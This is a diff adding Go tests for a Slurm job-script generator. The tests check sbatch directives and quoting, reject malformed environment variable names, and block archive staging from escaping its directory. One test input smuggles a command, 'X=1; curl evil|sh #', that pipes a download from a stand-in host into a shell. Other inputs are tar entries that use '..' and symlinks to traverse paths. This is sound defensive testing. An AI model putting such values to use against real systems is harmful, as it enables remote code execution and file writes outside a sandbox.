@@ -0,0 +1,84 @@
+package hpc
+
+import (
+	"archive/tar"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"gotest.tools/assert"
+
+	"github.com/determined-ai/determined/master/pkg/archive"
+	cproto "github.com/determined-ai/determined/master/pkg/container"
+)
+
+func TestJobScript(t *testing.T) {
+	script, err := jobScript(slurm{}, jobSpec{
+		name:             "det-a",
+		dir:              "/shared/det-a",
+		outputPath:       "/shared/det-a/output.log",
+		slots:            2,
+		partition:        "gpu",
+		containerRuntime: "singularity",
+		image:            "determinedai/environments:cuda",
+		entrypoint:       []string{"/run/determined/train/entrypoint.sh"},
+		workDir:          "/run/determined/workdir",
+		env:              []string{"DET_TASK_ID=a", "MESSAGE=it's"},
+		binds:            []string{"/shared/det-a/files/0/run:/run"},
+	})
+	assert.NilError(t, err)
+
+	for _, line := range []string{
+		"#SBATCH --gres=gpu:2",
+		"#SBATCH --partition=gpu",
+		"export SINGULARITYENV_DET_TASK_ID='a'",
+		`export SINGULARITYENV_MESSAGE='it'"'"'s'`,
+		"'--nv'",
+		"'--bind' \\\n    '/shared/det-a/files/0/run:/run'",
+		"'docker://determinedai/environments:cuda'",
+	} {
+		assert.Assert(t, strings.Contains(script, line), "missing %q in:\n%s", line, script)
+	}
+}
+
+func TestJobScriptRejectsEnvNames(t *testing.T) {
+	for _, name := range []string{"X=1; curl evil|sh #", "1X", "X-Y", "X Y", ""} {
+		_, err := jobScript(slurm{}, jobSpec{env: []string{name + "=a"}})
+		assert.ErrorContains(t, err, "invalid environment variable name")
+	}
+}
+
+func TestStageArchivesEscapes(t *testing.T) {
+	dir, err := ioutil.TempDir("", "hpc-job")
+	assert.NilError(t, err)
+	defer func() {
+		_ = os.RemoveAll(dir)
+	}()
+	root := filepath.Join(dir, "job")
+	outside := filepath.Join(dir, "outside")
+	assert.NilError(t, os.MkdirAll(outside, 0700))
+
+	for name, arx := range map[string]archive.Archive{
+		"dot-dot": {
+			archive.RootItem("../../../outside/escaped", []byte("x"), 0644, tar.TypeReg),
+		},
+		"symlink-parent": {
+			archive.RootItem("/link", []byte(outside), 0777, tar.TypeSymlink),
+			archive.RootItem("/link/escaped", []byte("x"), 0644, tar.TypeReg),
+		},
+		"symlink-file": {
+			archive.RootItem("/link", []byte(filepath.Join(outside, "escaped")), 0777,
+				tar.TypeSymlink),
+			archive.RootItem("/link", []byte("x"), 0644, tar.TypeReg),
+		},
+	} {
+		_ = os.RemoveAll(root)
+		_, err = stageArchives(root, []cproto.RunArchive{{Path: "/run", Archive: arx}})
+		assert.Assert(t, err != nil, "%s: expected staging to fail", name)
+		_, err = os.Stat(filepath.Join(outside, "escaped"))
+		assert.Assert(t, os.IsNotExist(err), "%s: expected no file outside of the job, got %v",
+			name, err)
+	}
+}